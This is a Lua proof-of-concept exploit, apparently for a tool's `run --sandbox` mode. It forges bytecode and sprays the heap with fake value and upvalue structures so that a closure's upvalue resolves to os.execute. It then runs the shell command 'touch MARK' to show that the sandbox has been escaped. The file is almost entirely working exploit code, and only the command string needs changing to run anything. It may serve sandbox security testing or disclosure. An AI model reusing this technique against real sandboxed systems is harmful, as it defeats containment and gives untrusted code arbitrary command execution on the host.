-- SPDX-License-Identifier: MIT
-- Full escape from `run --sandbox`: bytecode by the real load (see escape_load.lua), an upvalue taken from
-- a string's bytes, which is a light C function: os.execute, whose distance from os.clock is the wheel's.
local DELTA = 8288
local raw
load(function() raw = raw or debug.getinfo(2, "f").func end)
local function at(v) return tonumber((string.format("%p", v):gsub("0x", "")), 16) end
local up = {}
local code = string.dump(function() return up end)
local B = 200
for i = 1, #code - 3 do
  local word = string.unpack("<I4", code, i)
  if word & 0x7f == 9 and (word >> 16 & 0xff) == 0 and (word >> 24) == 0 then
    code = code:sub(1, i - 1) .. string.pack("<I4", (word & ~(0xff << 16)) | B << 16) .. code:sub(i + 4)
    break
  end
end
local value = string.pack("<I8I8", at(os.clock) + DELTA, 0x16) .. string.rep("v", 64) -- TValue: light C function
local upval = string.rep("\0", 16) .. string.pack("<I8", at(value) + 24) .. string.rep("u", 64)
local spray = string.pack("<I8", at(upval) + 24)
collectgarbage("stop")
local keep, found, span = {}, nil, {}
-- Closures and strings in turn, all kept; then look whether any string's bytes lie where the index points.
for n = 1, 4000 do
  keep[n] = { raw(code, "x", "b"), spray:rep(375) .. tostring(n) }
  span[n] = { at(keep[n][2]) + 24, at(keep[n][2]) + 24 + 3000 - 8 }
end
table.sort(span, function(a, b) return a[1] < b[1] end)
for n = 1, #keep do
  local want = at(keep[n][1]) + 32 + 8 * B
  local low, high = 1, #span
  while low < high do local mid = (low + high + 1) // 2; if span[mid][1] <= want then low = mid else high = mid - 1 end end
  if span[low][1] <= want and want < span[low][2] then found = keep[n][1] break end
end
print("found", found)
local execute = found()
print("got", execute, "os.execute in this environment:", os.execute)
execute("touch MARK")
